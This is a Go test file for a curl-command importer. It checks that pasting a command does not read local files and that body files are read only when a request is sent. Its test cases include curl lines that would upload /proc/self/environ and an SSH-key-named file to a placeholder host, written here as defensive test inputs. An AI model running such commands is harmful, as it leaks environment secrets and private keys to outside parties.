//go:build linux

package curl

import (
	"context"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/authlab/authlab/authn"
	"github.com/authlab/authlab/profiles"
)

// TestImportReadsNoLocalFile (#16 leak 7): a pasted command that names a
// local file is imported without reading it. The environment in
// /proc/self/environ, an endless /dev/zero and a FIFO nobody writes to
// become a body file reference, which the send refuses; the import returns
// at once and the profile holds none of their content.
func TestImportReadsNoLocalFile(t *testing.T) {
	const sentinel = "authlab-leak-7-sentinel"
	t.Setenv("AUTHLAB_LEAK_SENTINEL", sentinel) // now in /proc/self/environ
	secret := filepath.Join(t.TempDir(), "id_ed25519")
	if err := os.WriteFile(secret, []byte(sentinel), 0o600); err != nil {
		t.Fatal(err)
	}
	fifo := filepath.Join(t.TempDir(), "fifo")
	if err := syscall.Mkfifo(fifo, 0o600); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		line, bodyFile string
		refusedAtSend  string // what ReadBodyFile says ("" : it reads the file)
	}{
		{"curl --data-binary @/proc/self/environ https://h.example/", "/proc/self/environ", "is under /proc"},
		{"curl -d @/proc/self/environ https://h.example/", "/proc/self/environ", "is under /proc"},
		{"curl -d @/dev/zero https://h.example/", "/dev/zero", "is a character device"},
		{"curl --json @" + fifo + " https://h.example/", fifo, "is a FIFO"},
		{"curl -T " + fifo + " https://h.example/up", fifo, "is a FIFO"},
		{"curl --data-binary @" + secret + " https://h.example/", secret, ""},
	}
	for _, tt := range tests {
		im, err := ParseCommand(tt.line, Options{})
		if err != nil {
			t.Errorf("ParseCommand(%q) = %v; want the file kept as a reference", tt.line, err)
			continue
		}
		p := im.Profile
		if p.BodyFile != tt.bodyFile || p.Body != "" {
			t.Errorf("ParseCommand(%q) body %q, body file %q; want no body and the body file %q", tt.line, p.Body, p.BodyFile, tt.bodyFile)
		}
		for _, s := range append(append([]string{p.Body, p.URL}, im.Notes...), im.Unknown...) {
			if strings.Contains(s, sentinel) {
				t.Errorf("ParseCommand(%q) read the file: %q holds its content", tt.line, s)
			}
		}
		if tt.refusedAtSend == "" {
			continue
		}
		if _, err := profiles.ReadBodyFile(context.Background(), p.BodyFile, authn.DefaultMaxBody); err == nil || !strings.Contains(err.Error(), tt.refusedAtSend) {
			t.Errorf("ReadBodyFile(%q) = %v; want it refused: %q", p.BodyFile, err, tt.refusedAtSend)
		}
	}
}

// TestBodyFileReadWhenSent: the body file of an imported command is read
// when the request is sent, not when it is imported: the server receives
// the file as it is at send time.
func TestBodyFileReadWhenSent(t *testing.T) {
	var got []byte
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		got, _ = io.ReadAll(r.Body)
	}))
	defer srv.Close()
	body := filepath.Join(t.TempDir(), "payload.json")
	if err := os.WriteFile(body, []byte(`{"at":"import"}`), 0o600); err != nil {
		t.Fatal(err)
	}
	im, err := ParseCommand("curl --json @"+body+" "+srv.URL+"/items", Options{})
	if err != nil {
		t.Fatal(err)
	}
	const atSend = "{\"at\":\"send\"}\r\n"
	if err := os.WriteFile(body, []byte(atSend), 0o600); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	req := authnRequest(t, im.Profile, nil, "/")
	eng := authn.New(authn.Options{Timeout: 10 * time.Second})
	defer eng.Close()
	if _, err := eng.Exchange(ctx, req); err != nil {
		t.Fatal(err)
	}
	if string(got) != atSend {
		t.Errorf("server got body %q; want the file as it is when sent, %q", got, atSend)
	}
}
